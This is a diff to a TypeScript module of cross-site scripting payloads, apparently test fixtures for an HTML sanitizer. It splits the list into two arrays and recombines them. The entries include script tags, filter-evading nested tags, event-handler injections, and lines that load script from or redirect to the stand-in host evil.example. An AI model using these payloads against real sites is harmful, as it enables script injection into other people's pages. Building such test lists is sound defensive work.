@@ -1,7 +1,7 @@
 const SCRIPT = 'globalThis.hit=1';
 
-/** Ways to smuggle code, markup or files through text, one per line of attack. */
-export const PAYLOADS: readonly string[] = [
+/** Elements that run code, load it or send something. */
+export const ELEMENTS: readonly string[] = [
   `<script>${SCRIPT}</script>`,
   `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
   `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
@@ -37,6 +37,10 @@ export const PAYLOADS: readonly string[] = [
   `<video><source onerror=${SCRIPT}></video>`,
   `<audio src=x onerror=${SCRIPT}>`,
   `<details open ontoggle=${SCRIPT}>x</details>`,
+];
+
+/** Addresses, comments, templates and markup of our own that might. */
+export const ADDRESSES_AND_TEMPLATES: readonly string[] = [
   `<marquee onstart=${SCRIPT}>x</marquee>`,
   `<meta http-equiv="refresh" content="0;url=javascript:${SCRIPT}">`,
   `<base href="https://evil.example/">`,
@@ -73,3 +77,6 @@ export const PAYLOADS: readonly string[] = [
   `<% ${SCRIPT} %>`,
   `\u2028<script>${SCRIPT}</script>`,
 ];
+
+/** Ways to smuggle code, markup or files through text. */
+export const PAYLOADS: readonly string[] = [...ELEMENTS, ...ADDRESSES_AND_TEMPLATES];
